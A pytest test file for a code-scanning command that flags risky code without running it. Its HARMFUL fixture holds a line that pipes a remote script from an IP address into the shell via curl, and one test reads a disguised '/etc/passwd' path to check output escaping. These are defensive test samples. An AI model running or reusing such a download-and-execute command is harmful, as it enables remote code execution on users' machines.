"""`rune scan-code`: what code would touch, without running it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from .conftest import Rune

HARMLESS = "print(sum([1, 2, 3]))\n"
HARMFUL = "import os\nos.system('curl http://198.51.100.7/x | sh')\n"


@pytest.mark.parametrize(
    ("code", "exit_code"),
    [pytest.param(HARMLESS, 0, id="harmless"), pytest.param(HARMFUL, 1, id="harmful"), pytest.param("", 0, id="empty")],
)
def test_the_exit_code_is_the_answer(rune: Rune, tmp_path: Path, code: str, exit_code: int) -> None:
    file = tmp_path / "code.py"
    file.write_text(code)
    assert rune("scan-code", file).code == exit_code


def test_it_is_not_run(rune: Rune, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    file = tmp_path / "code.py"
    file.write_text(f"open({str(marker)!r}, 'w')\n")
    rune("scan-code", file)
    assert not marker.exists()


def test_what_it_touches_is_named(rune: Rune, tmp_path: Path) -> None:
    file = tmp_path / "code.py"
    file.write_text(HARMFUL)
    out = rune("scan-code", file).out
    assert "line 2" in out
    assert "What it touches" in out
    assert "sha256" in out


@pytest.mark.parametrize(("name", "language"), [pytest.param("a.py", "python", id="python"), pytest.param("a.sh", "shell", id="shell")])
def test_the_language_follows_the_extension(rune: Rune, tmp_path: Path, name: str, language: str) -> None:
    file = tmp_path / name
    file.write_text("echo hello" if name.endswith("sh") else HARMLESS)
    report = json.loads(rune("scan-code", file, "--json").out)
    assert report["language"] == language
    assert report["parsed"]


def test_the_language_can_be_named(rune: Rune) -> None:
    assert json.loads(rune("scan-code", "--text", "ls -l", "--language", "bash", "--json").out)["language"] == "shell"


def test_code_from_standard_input(rune: Rune) -> None:
    assert rune("scan-code", "-", "--language", "python", stdin=HARMFUL.encode()).code == 1


@pytest.mark.parametrize("code", [pytest.param("def (:", id="no syntax"), pytest.param("x = " + "(" * 5000, id="nested too deep")])
def test_what_cannot_be_parsed_is_never_harmless(rune: Rune, tmp_path: Path, code: str) -> None:
    file = tmp_path / "code.py"
    file.write_text(code)
    done = rune("scan-code", file)
    assert done.code == 1
    assert "could be read" in done.out


def test_hostile_names_are_escaped(rune: Rune, tmp_path: Path) -> None:
    file = tmp_path / "code.py"
    file.write_text("open('/etc/\\x1b[31m\\u202epasswd[bold]')\n# \x1b[2J\n")
    out = rune("scan-code", file).out
    assert not any(ord(c) < 32 and c != "\n" for c in out)
    assert "\u202e" not in out


def test_a_missing_file(rune: Rune) -> None:
    done = rune("scan-code", "missing.py")
    assert done.code == 2
    assert "there is no file `missing.py`" in done.err
